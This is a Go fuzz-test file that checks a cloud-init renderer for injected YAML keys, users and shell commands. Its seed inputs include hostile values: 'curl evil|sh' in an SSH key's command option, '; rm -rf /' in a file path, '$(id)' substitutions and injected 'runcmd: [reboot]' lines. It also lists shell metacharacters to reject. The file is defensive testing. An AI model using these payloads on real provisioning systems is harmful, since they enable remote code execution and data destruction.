package cloudinit

import (
	"bufio"
	"bytes"
	"reflect"
	"strings"
	"testing"

	"go.yaml.in/yaml/v3"
)

// FuzzRender renders seeds from hostile values (hostnames, SSH keys, user names, ids, URLs).
// It never panics; a seed is either refused or renders documents that are valid YAML with
// exactly the keys we write, each value carried through unchanged (no injected keys, users or
// commands), and an instance.env of exactly three plain assignments.
func FuzzRender(f *testing.F) {
	s := seed()
	f.Add(s.Hostname, s.Username, key, key, s.InstanceID, "", s.TelemetryToken, "", s.MAC)
	f.Add("gpuaas-a\nruncmd: [reboot]", "debian", key+"\nssh-rsa AAAA evil", "", "a1", "http://10.0.0.1:9110/x", "t", "/var/lib/gpuaas/slice-ready", "52:54:00:01:00:00")
	f.Add("h", "root", key+" #: {x: 1}", key, "a1\"", "http://h/;reboot", "t$(id)", "/x; rm -rf /", "52:54:00:01:00:0A")
	f.Add("h", "debian", `command="curl evil|sh",no-pty `+key, "", "a1", "http://[::1]:9110/x?a=b&c", "t", "/tmp/../etc/x", "52:54:00:01:00:00")
	f.Add("h", "debian", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl a\u2028b: c", "", "a1", "https://h:1/p", "", "", "52:54:00:01:00:00")
	f.Fuzz(func(t *testing.T, hostname, user, k1, term, id, turl, token, marker, mac string) {
		in := Seed{InstanceID: id, Hostname: hostname, Username: user, SSHPublicKeys: []string{k1}, TerminalKey: term, MAC: mac,
			IP: "10.100.0.10", TelemetryToken: token, TelemetryURL: turl, ReadyMarker: marker}
		files, err := Render(in)
		if err != nil {
			if in.Validate() == nil {
				t.Fatalf("valid seed failed to render: %v", err)
			}
			return
		}
		if !bytes.HasPrefix(files.UserData, []byte("#cloud-config\n")) {
			t.Fatalf("user-data header: %q", files.UserData)
		}
		var ud map[string]any
		if err := yaml.Unmarshal(files.UserData, &ud); err != nil {
			t.Fatalf("user-data is not YAML: %v\n%s", err, files.UserData)
		}
		allowed := map[string]bool{"hostname": true, "preserve_hostname": true, "users": true, "ssh_pwauth": true, "disable_root": true,
			"write_files": true, "runcmd": true}
		for k := range ud {
			if !allowed[k] {
				t.Fatalf("injected top-level key %q:\n%s", k, files.UserData)
			}
		}
		if ud["hostname"] != hostname || ud["ssh_pwauth"] != false || ud["disable_root"] != true {
			t.Fatalf("hostname/ssh_pwauth/disable_root changed:\n%s", files.UserData)
		}
		users, _ := ud["users"].([]any)
		if len(users) != 2 || users[0] != "default" {
			t.Fatalf("users: %#v", ud["users"])
		}
		u, _ := users[1].(map[string]any)
		want := []any{k1}
		if term != "" {
			want = append(want, term)
		}
		if u["name"] != user || !reflect.DeepEqual(u["ssh_authorized_keys"], want) || len(u) != 6 {
			t.Fatalf("user entry changed: %#v", u)
		}
		for _, k := range want {
			if strings.ContainsAny(k.(string), "\r\n") {
				t.Fatalf("a multi-line key was accepted: %q", k)
			}
		}
		wf, _ := ud["write_files"].([]any)
		if len(wf) != 1 && len(wf) != 4 {
			t.Fatalf("write_files: %d entries", len(wf))
		}
		env, _ := wf[0].(map[string]any)["content"].(string)
		checkEnv(t, env, map[string]string{"GPUAAS_INSTANCE_ID": id, "GPUAAS_TELEMETRY_TOKEN": token, "GPUAAS_TELEMETRY_URL": turl})
		rc, _ := ud["runcmd"].([]any)
		last, _ := rc[len(rc)-1].([]any)
		if m := marker; m != "" && (len(last) != 3 || !strings.HasSuffix(last[2].(string), "> "+m) || strings.ContainsAny(m, " ;&|$`\\'\"\n<>(){}*?")) {
			t.Fatalf("ready marker command: %#v", last)
		}
		var md map[string]any
		if err := yaml.Unmarshal(files.MetaData, &md); err != nil || len(md) != 2 || md["instance-id"] != id || md["local-hostname"] != hostname {
			t.Fatalf("meta-data: %v\n%s", err, files.MetaData)
		}
		var nc struct {
			Version   int                       `yaml:"version"`
			Ethernets map[string]map[string]any `yaml:"ethernets"`
		}
		if err := yaml.Unmarshal(files.NetworkConfig, &nc); err != nil || len(nc.Ethernets) != 1 ||
			nc.Ethernets["eth0"]["match"].(map[string]any)["macaddress"] != mac {
			t.Fatalf("network-config: %v\n%s", err, files.NetworkConfig)
		}
	})
}

// checkEnv: instance.env (sourced by sh in the guest) holds exactly the expected plain
// assignments, with no character a shell would act on.
func checkEnv(t *testing.T, env string, want map[string]string) {
	t.Helper()
	got := map[string]string{}
	sc := bufio.NewScanner(strings.NewReader(env))
	for sc.Scan() {
		k, v, ok := strings.Cut(sc.Text(), "=")
		if !ok {
			t.Fatalf("instance.env line %q", sc.Text())
		}
		if strings.ContainsAny(v, " \t;&|$`\\'\"<>(){}*\r#") {
			t.Fatalf("instance.env %s=%q holds a shell metacharacter", k, v)
		}
		got[k] = v
	}
	if !reflect.DeepEqual(got, want) {
		t.Fatalf("instance.env = %q, want %v", env, want)
	}
}

// FuzzRenderHost renders MAAS deploy user-data from hostile node names, URLs, tokens, tags and
// firmware values: refused, or YAML with exactly our keys, a three-line comment header, env
// files of exactly the expected assignments, and the token and server as whole arguments.
func FuzzRenderHost(f *testing.F) {
	f.Add("h200-01", "https://ctl.example:8443", "gpb_0123456789abcdefghijkl", "https://repo.example/gpuaas-hostd", "v1", "BIOS.A=B BIOS.C=D", "gpu-nvidia-h200", true)
	f.Add("n\nruncmd: [reboot]", "https://ctl.example:8443 --insecure", "gpb_0123456789abcdefghijkl\n", "https://r/x';reboot;'", "v1\n", "A=\"$(id)\"", "Tag", false)
	f.Add("n", "http://ctl", "gpb_0123456789abcdefghijkl", "http://r/h", "v1", "", "t", true)
	f.Fuzz(func(t *testing.T, node, server, token, hostdURL, fwVersion, fwAttrs, tag string, slice bool) {
		h := hostSeed(t)
		h.Node, h.Server, h.BootstrapToken, h.HostdURL, h.FirmwareVersion, h.FirmwareAttrs = node, server, token, hostdURL, fwVersion, fwAttrs
		h.NodeTags = []string{tag}
		if !slice {
			h.Profile, h.BootstrapToken = ProfileBaremetal, ""
		}
		ud, err := RenderHost(h)
		if err != nil {
			return
		}
		head, body, _ := strings.Cut(string(ud), "\npackages:")
		lines := strings.Split(head, "\n")
		if len(lines) != 3 || lines[0] != "#cloud-config" || !strings.HasPrefix(lines[1], "# ") || !strings.HasPrefix(lines[2], "# ") {
			t.Fatalf("header is not three comment lines: %q", head)
		}
		var doc map[string]any
		if err := yaml.Unmarshal(ud, &doc); err != nil || len(doc) != 3 || doc["write_files"] == nil || doc["runcmd"] == nil || doc["packages"] == nil || body == "" {
			t.Fatalf("user-data keys: %v %v\n%s", err, keysOf(doc), ud)
		}
		for _, w := range doc["write_files"].([]any) {
			m := w.(map[string]any)
			path, content := m["path"].(string), m["content"].(string)
			switch path {
			case "/etc/gpuaas/firmware-profile.env":
				if n := strings.Count(content, "\n"); n != 7 || strings.Contains(content, "\r") {
					t.Fatalf("firmware env has %d lines: %q", n, content)
				}
				for _, l := range strings.Split(strings.TrimSuffix(content, "\n"), "\n") {
					if k, _, ok := strings.Cut(l, "="); !ok || !strings.HasPrefix(k, "GPUAAS_") || strings.ContainsAny(l, "$`\\;&|") {
						t.Fatalf("firmware env line %q", l)
					}
				}
			case "/etc/gpuaas/hostd.env":
				if content != "GPUAAS_NODE_TAGS="+tag+"\n" {
					t.Fatalf("hostd env %q", content)
				}
			}
		}
		if !slice {
			return
		}
		found := false
		for _, c := range doc["runcmd"].([]any) {
			argv, _ := c.([]any)
			if len(argv) > 6 && argv[0] == "gpuaas-hostd" && argv[1] == "enroll" {
				found = argv[3] == server && argv[7] == token
			}
		}
		if !found {
			t.Fatalf("enroll command does not carry server and token as whole arguments:\n%s", ud)
		}
	})
}

func keysOf(m map[string]any) []string {
	var out []string
	for k := range m {
		out = append(out, k)
	}
	return out
}
